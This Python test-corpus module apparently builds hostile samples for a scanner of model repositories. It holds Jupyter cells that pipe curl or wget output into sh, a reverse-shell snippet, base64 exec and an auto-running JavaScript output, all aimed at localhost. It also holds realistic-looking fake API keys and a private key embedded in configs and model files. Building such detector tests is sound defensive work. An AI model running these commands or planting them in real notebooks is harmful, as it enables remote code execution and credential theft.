"""Notebooks that run shells, and credentials that are published with a model."""

import json
import zlib
from collections.abc import Iterator

from tests.corpus.hostile.gguf import BASE, gguf
from tests.corpus.hostile.safetensors import made, tensor
from tests.corpus.sample import Sample

CELLS = {
    "shell": "!curl http://127.0.0.1/ | sh",
    "shell, double": "!!curl http://127.0.0.1/ | sh",
    "bash magic": "%%bash\ncurl http://127.0.0.1/ | sh",
    "sh magic": "%%sh\nwget http://127.0.0.1/a && sh a",
    "script magic": "%%script bash\ncurl http://127.0.0.1/a.sh | bash",
    "system magic": "%system curl http://127.0.0.1/ | sh",
    "sx": "%sx curl http://127.0.0.1/ | sh",
    "assigned": "out = !curl http://127.0.0.1/a | bash",
    "code": "import os\nos.system('curl http://127.0.0.1/ | sh')",
    "reverse shell": "import socket,subprocess,os\ns=socket.socket();s.connect(('127.0.0.1',1));os.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
    "exec of base64": "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))",
}
OUTPUTS = {
    "javascript": {"application/javascript": ["Jupyter.notebook.kernel.execute('1')"]},
}


# None of these is a real one; they are put together so that no scanner of sources stumbles over them.
def _github() -> str:
    """Its last six characters are a checksum of the rest."""
    body, rest, out = "Qw7ZkP2xNdV9sLbT4fHj6RmYcG3uEa", 0, ""
    rest = zlib.crc32(body.encode())
    letters = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    while rest:
        rest, digit = divmod(rest, 62)
        out = letters[digit] + out
    return "ghp_" + body + out.rjust(6, "0")


SECRETS = {
    "AWS": "AKIA" + "Z5XQ7WJ2K6RTN4PV",
    "GitHub": _github(),
    "Hugging Face": "hf_" + "QwZkPxNdVsLbTfHjRmYcGuEaWiOpKzXvBn",
    "OpenAI": "sk-proj-" + "q7Zk2PxN9dVs4LbT6fHj" + "T3BlbkFJ" + "R8mYcG3uEa5WiOpK1zXv",
    "Slack": "xoxb-" + "738291046573-9182736450918-" + "QwZkPxNdVsLbTfHjRmYcGuEa",
    "Google": "AIza" + "SyQ7wZk2PxN9dVs4LbT6fHjR8mYcG3uEa5W",
    "private key": "-----BEGIN RSA PRIVATE "
    "KEY-----\nMIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB\naFDrBz9vFqU4yK1JqQy0w6gkVQ7zX3xkqQ==\n-----END RSA PRIVATE "
    "KEY-----",
}


def notebook(source: str, outputs: list | None = None) -> bytes:
    cell = {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "outputs": outputs or [],
        "source": source.splitlines(keepends=True),
    }
    return json.dumps(
        {
            "cells": [{"cell_type": "markdown", "metadata": {}, "source": ["# Model"]}, cell],
            "metadata": {},
            "nbformat": 4,
            "nbformat_minor": 5,
        },
        indent=1,
    ).encode()


def samples() -> Iterator[Sample]:
    family = "notebooks"
    for name, source in CELLS.items():
        for path in ("train.ipynb", "notebooks/demo.ipynb"):
            yield Sample(family, f"{name}, {path}", "runs with the cell", {path: notebook(source)}, "medium")
        one = json.dumps(
            {
                "cells": [
                    {
                        "cell_type": "code",
                        "metadata": {},
                        "outputs": [],
                        "execution_count": None,
                        "source": source,
                    }
                ],
                "metadata": {},
                "nbformat": 4,
                "nbformat_minor": 2,
            }
        ).encode()
        yield Sample(
            family, f"{name}, source of one string", "runs with the cell", {"a.ipynb": one}, "medium"
        )
    for name, data in OUTPUTS.items():
        shown = [{"output_type": "display_data", "data": data, "metadata": {}}]
        yield Sample(
            family,
            f"output: {name}",
            "runs when the notebook is opened",
            {"a.ipynb": notebook("1", shown)},
            "medium",
        )
    family = "secrets"
    for name, secret in SECRETS.items():
        quoted = json.dumps(secret)
        files = {
            "config.json": json.dumps({"model_type": "net", "token": secret}).encode(),
            "tokenizer_config.json": json.dumps({"tokenizer_class": "a", "auth_token": secret}).encode(),
            "notebook": notebook(f"token = {quoted}"),
            "notebook output": notebook(
                "1", [{"output_type": "stream", "name": "stdout", "text": [f"token: {secret}\n"]}]
            ),
            "safetensors": made({"__metadata__": {"note": secret}, "w": tensor(0, 16, [4])}),
            "gguf": gguf({**BASE, "general.comment": secret}),
            "yaml": f"model_type: net\nhub:\n  token: {quoted}\n".encode(),
        }
        paths = {
            "notebook": "a.ipynb",
            "notebook output": "b.ipynb",
            "safetensors": "model.safetensors",
            "gguf": "model.gguf",
            "yaml": "config.yaml",
        }
        for kind, data in files.items():
            yield Sample(
                family,
                f"{name} in {kind}",
                "published with the model",
                {paths.get(kind, kind): data},
                "medium" if kind == "notebook output" else "high",
            )
